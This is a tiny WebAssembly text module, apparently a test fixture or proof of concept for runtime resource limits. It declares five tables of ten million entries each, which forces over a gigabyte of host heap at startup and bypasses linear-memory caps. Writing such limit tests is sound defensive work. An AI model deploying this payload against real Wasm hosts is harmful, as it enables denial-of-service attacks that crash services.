;; Attack: 414 bytes that ask for 50 million table entries at start (over a
;; GiB of host heap), outside any linear-memory cap.
(module
  (memory (export "memory") 1)
  (table 10000000 funcref)
  (table 10000000 funcref)
  (table 10000000 funcref)
  (table 10000000 funcref)
  (table 10000000 funcref)
  (func (export "_start")))
